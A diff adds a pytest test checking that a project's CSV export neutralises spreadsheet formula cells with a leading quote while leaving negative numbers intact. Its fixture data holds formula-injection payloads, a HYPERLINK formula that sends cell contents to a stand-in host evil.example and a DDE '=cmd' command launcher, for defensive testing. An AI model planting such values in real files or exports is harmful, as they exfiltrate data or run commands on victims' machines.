@@ -137,3 +137,33 @@ init = {{ file = "{evil}" }}
     reason = attempt.exit_reason or ""
     assert reason.count("\n") == 0 and f"init: {evil}: refused to load" in reason, reason
     assert not marker.exists()
+
+
+def test_csv_exports_escape_formula_cells_but_keep_negative_numbers(tmp_path: Path) -> None:
+    import csv
+    import json
+
+    from db import NewJob, Store
+    from db.export import export_grid
+
+    url = f"sqlite:///{tmp_path / 'db.sqlite'}"
+    spec = {"note": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "tag": "@SUM(A1:A9)",
+            "a": "+1+1", "b": "-2+3", "c": "\tx", "d": "\rx", "plain": "a=b", "lr": -0.5}
+    with Store(url) as store:
+        gid = store.upsert_grid("g", "{}", "sh", "g.toml", 2)
+        store.add_jobs(gid, [NewJob("j0", json.dumps(spec), "supervised", "ck", 0, str(tmp_path / "j0"), "full",
+                                    "=cmd|' /C calc'!A0")])
+        attempt = store.claim("j0", backend="local", backend_id=None, host="n1", pid=1)
+        store.complete("j0", attempt, {"loss_delta": -0.25, "acc": 0.5})
+        export_grid(store, "g", tmp_path / "out")
+    with open(tmp_path / "out" / "jobs.csv", newline="") as fh:
+        (row,) = list(csv.DictReader(fh))
+    assert row["config_name"] == "'=cmd|' /C calc'!A0"
+    assert row["spec.note"] == "'" + spec["note"] and row["spec.tag"] == "'@SUM(A1:A9)"
+    assert (row["spec.a"], row["spec.b"], row["spec.c"], row["spec.d"]) == ("'+1+1", "'-2+3", "'\tx", "'\rx")
+    assert row["spec.plain"] == "a=b"  # a formula character inside a cell is harmless
+    assert (row["spec.lr"], row["loss_delta"], row["acc"]) == ("-0.5", "-0.25", "0.5")  # numbers stay numbers
+    with open(tmp_path / "out" / "metrics.csv", newline="") as fh:
+        assert {r["name"]: r["value"] for r in csv.DictReader(fh)} == {"loss_delta": "-0.25", "acc": "0.5"}
+    records = json.loads((tmp_path / "out" / "jobs.json").read_text())
+    assert records[0]["config_name"] == "=cmd|' /C calc'!A0"  # JSON keeps values as they are
